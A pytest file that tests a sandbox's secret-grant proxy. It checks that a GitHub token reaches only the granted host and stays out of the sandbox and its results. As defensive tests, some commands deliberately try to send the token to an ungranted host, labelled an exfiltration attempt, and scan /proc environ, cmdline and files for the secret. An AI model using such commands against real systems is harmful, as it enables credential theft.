"""Secret grants end to end: a real sandbox, the real proxy terminating TLS with the run's
CA, a real HTTPS echo server (its certificate from a test CA the proxy is told to trust),
real clients inside. The value must never be inside the sandbox, and never in the Result."""

import json
import os

import pytest
from netfix import GRANT_PRIV as PRIV
from netfix import TOKEN

import corral
from corral.errors import PolicyError

PY = "/usr/bin/python3"


def pol(world, **secret):
    return {
        "network": {"mode": "allow", "allow": ["granted.test", "other.test"],
                    "allow_private": [PRIV], "nameservers": [f"127.0.0.1:{world['dns']}"],
                    "upstream_ca": str(world["test_ca"])},
        "secrets": {"GITHUB_TOKEN": {"value": TOKEN, "hosts": ["granted.test"], **secret}},
        "limits": {"timeout": "30s"},
    }


def no_leak(r):
    blob = json.dumps(r.to_dict())
    assert TOKEN not in blob, "the secret value reached the Result"


def test_granted_host_gets_the_token_and_the_sandbox_only_the_placeholder(world):
    r = corral.run(["/bin/sh", "-c",
                    'echo "env=$GITHUB_TOKEN"; '
                    'curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" https://granted.test/echo'],
                   policy=pol(world))
    assert r.verdict == "ok", r.stderr
    ph = r.stdout.splitlines()[0].split("=", 1)[1]
    assert ph.startswith("corral_GITHUB_TOKEN_") and TOKEN not in ph
    seen = [rec for rec in world["log"] if rec["path"] == "/echo"][-1]
    assert ("authorization", f"Bearer {TOKEN}") in [(k.lower(), v) for k, v in seen["headers"]]
    assert TOKEN not in r.stdout and ph in r.stdout  # the echo came back scrubbed
    kinds = [(e["kind"], e.get("decision")) for e in r.events]
    assert ("secret", "inject") in kinds and ("net", "allow") in kinds
    no_leak(r)


def test_other_hosts_get_nothing_and_the_attempt_is_an_event(world):
    before = len(world["log"])
    r = corral.run(["/bin/sh", "-c",
                    'curl -sS -m 10 -o /dev/null -w "%{http_code} " '
                    '-H "X-Token: $GITHUB_TOKEN" http://other.test/echo; '
                    'curl -sS -k -m 10 -o /dev/null -w "%{http_code}" '
                    '-H "X-Token: $GITHUB_TOKEN" https://other.test/echo'], policy=pol(world))
    # plain HTTP: the proxy sees the placeholder going elsewhere and refuses; HTTPS to a host
    # no grant names is a tunnel the proxy cannot read: the server gets the worthless
    # placeholder, never the value
    assert r.stdout.split() == ["403", "200"], r
    seen = world["log"][before:]
    assert [rec["path"] for rec in seen] == ["/echo"] and seen[0]["server"] == "other.test"
    assert all(TOKEN not in json.dumps(rec) for rec in seen)
    assert any(v.startswith("corral_GITHUB_TOKEN_") for _, v in seen[0]["headers"])
    (ev,) = [e for e in r.events if e["kind"] == "secret"]
    assert ev["decision"] == "deny" and ev["reason"] == "exfiltration attempt"
    assert ev["name"] == "GITHUB_TOKEN" and ev["host"] == "other.test"
    no_leak(r)


def test_the_value_is_nowhere_inside(world):
    r = corral.run([PY, "-c", f"""
import os, glob
TOKEN = bytes.fromhex({TOKEN.encode().hex()!r})  # not in this process's own cmdline
hits = []
for p in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if TOKEN in open(p, "rb").read(): hits.append(p)
    except OSError:
        pass
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")):
        dirs[:] = []
        continue
    for f in files:
        try:
            if TOKEN in open(os.path.join(root, f), "rb").read(): hits.append(f)
        except OSError:
            pass
import urllib.request
try:  # asking the proxy itself
    body = urllib.request.urlopen("http://127.0.0.1:3128/", timeout=5).read()
except Exception as e:
    body = str(e).encode()
if TOKEN in body: hits.append("proxy")
print("hits", hits)
"""], policy=pol(world))
    assert r.stdout.strip() == "hits []", r
    no_leak(r)


def test_python_requests_and_git_work_with_the_injected_credential(world, tmp_path):
    r = corral.run(["/bin/sh", "-c", f"""
{PY} -c 'import os, requests; print(requests.get("https://granted.test/basic", auth=("x", os.environ["GITHUB_TOKEN"]), timeout=10).status_code)'
git clone -q "https://x:$GITHUB_TOKEN@granted.test/git/repo.git" /scratch/repo && git -C /scratch/repo log --format=%s
grep -c corral_GITHUB_TOKEN_ /scratch/repo/.git/config
"""], policy=pol(world))
    assert r.stdout.split() == ["200", "first", "1"], r.stderr
    no_leak(r)


def test_expired_grant_is_refused_never_sent_without(world):
    import time

    with corral.Sandbox(pol(world, ttl="1s")) as sb:
        time.sleep(1.2)
        r = sb.exec(["/bin/sh", "-c", 'curl -sS -m 10 -o /dev/null -w "%{http_code}" '
                                      '-H "Authorization: Bearer $GITHUB_TOKEN" '
                                      'https://granted.test/echo'])
    assert r.stdout == "403"
    (ev,) = [e for e in r.events if e["kind"] == "secret"]
    assert ev["reason"] == "grant expired"


def test_a_sibling_sandbox_gets_its_grants_ttl_from_its_own_open(world):
    """A batch's warm pool makes each sandbox a sibling of one prepared Sandbox
    (scale/node.py): its grant lasts `ttl` after it opens (schema: "until ttl after the
    sandbox opens"), not after the prepared one was made, which may be long before (a
    batch that outlasts the ttl sent its later jobs' requests without the value)."""
    import time

    template = corral.Sandbox(pol(world, ttl="2s"))
    time.sleep(2.2)                      # past the ttl, counted from the template's making
    sb = template._sibling().open()
    try:
        r = sb.exec(["/bin/sh", "-c", 'curl -sS -m 10 -o /dev/null -w "%{http_code}" '
                                      '-H "Authorization: Bearer $GITHUB_TOKEN" '
                                      'https://granted.test/echo'])
    finally:
        sb.close()
    assert r.stdout == "200", r
    kinds = [(e["kind"], e.get("decision")) for e in r.events]
    assert ("secret", "inject") in kinds, r.events
    no_leak(r)


def test_sources_and_their_errors(world, tmp_path, monkeypatch):
    base = pol(world)
    del base["secrets"]
    f = tmp_path / "token"
    f.write_text(TOKEN + "\n")
    monkeypatch.setenv("CORRAL_TEST_TOKEN", TOKEN)
    for source in (f"file:{f}", "env:CORRAL_TEST_TOKEN"):
        r = corral.run(["/bin/sh", "-c", 'curl -sS -m 10 -H "A: $T" https://granted.test/echo'],
                       policy={**base, "secrets": {"T": {"from": source,
                                                         "hosts": ["granted.test"]}}})
        assert TOKEN not in r.stdout and "corral_T_" in r.stdout, r.stderr
        no_leak(r)
    for source, words in (("env:CORRAL_NOT_SET", "not set"), (f"file:{tmp_path}/none", "cannot read")):
        with pytest.raises(PolicyError) as ei:
            corral.Sandbox({**base, "secrets": {"T": {"from": source, "hosts": ["granted.test"]}}})
        assert ei.value.field == "secrets.T.from" and words in str(ei.value)
    (tmp_path / "empty").write_text("")
    with pytest.raises(PolicyError, match="empty"):
        corral.Sandbox({**base, "secrets": {"T": {"from": f"file:{tmp_path}/empty",
                                                  "hosts": ["granted.test"]}}})


def test_cli_secret_flag(world, tmp_path):
    import subprocess

    from conftest import CORRAL

    p = tmp_path / "p.toml"
    p.write_text(f'[network]\nmode = "allow"\nallow = ["granted.test"]\nallow_private = ["{PRIV}"]\n'
                 f'nameservers = ["127.0.0.1:{world["dns"]}"]\nupstream_ca = "{world["test_ca"]}"\n')
    r = subprocess.run([CORRAL, "run", "--json", "--policy", str(p), "--secret",
                        "GH=env:CORRAL_TEST_TOKEN@granted.test/5m", "--", "/bin/sh", "-c",
                        'curl -sS -m 10 -H "A: $GH" https://granted.test/echo'],
                       capture_output=True, text=True, env={**os.environ,
                                                            "CORRAL_TEST_TOKEN": TOKEN})
    assert r.returncode == 0, r.stderr
    assert TOKEN not in r.stdout and TOKEN not in r.stderr
    seen = [rec for rec in world["log"] if rec["path"] == "/echo"][-1]
    assert ("a", TOKEN) in [(k.lower(), v) for k, v in seen["headers"]]


def test_reflected_spellings_and_unreadable_codings_never_reach_the_sandbox(world):
    """The granted host echoes the injected value base64-encoded (inside a longer text),
    as hex, JSON \\u escapes, HTML entities, lower-case %xx, upper-cased, and once as a
    body labelled br: what the sandbox decodes holds the placeholder, and the br body is
    cut."""
    import base64
    import html
    from urllib.parse import unquote

    forms = {"base64": lambda t: base64.b64decode(t + "=" * (-len(t) % 4)).decode(),
             "hex": lambda t: bytes.fromhex(t).decode(), "json-unicode": json.loads,
             "html-decimal": html.unescape, "percent-every-lower": unquote,
             "upper": lambda t: t}
    r = corral.run(["/bin/sh", "-c",
                    (f'for f in {" ".join(forms)}; do curl -sS -m 10 '
                     '-H "X-Api-Key: $GITHUB_TOKEN" "https://granted.test/form?f=$f&pre=1"; '
                     'echo; done; echo "ph=$GITHUB_TOKEN"; curl -sS -m 10 -o /dev/null '
                     '-w "%{http_code}" -H "X-Api-Key: $GITHUB_TOKEN" '
                     'https://granted.test/ce?v=br')],
                   policy=pol(world))
    assert r.verdict == "ok", r.stderr
    lines = r.stdout.splitlines()
    assert len(lines) == len(forms) + 2 and lines[-1] == "502", r.stdout
    ph = lines[-2].split("=", 1)[1]
    for (name, undo), line in zip(forms.items(), lines, strict=False):
        back = undo(line)
        want = ph.upper() if name == "upper" else ph
        assert want in back and TOKEN.upper() not in back.upper(), (name, line)
    assert {"kind": "net", "decision": "deny",
            "reason": "response not scrubbable: content-encoding br"}.items() <= next(
        e for e in r.events if e["kind"] == "net" and e["decision"] == "deny").items()
    no_leak(r)
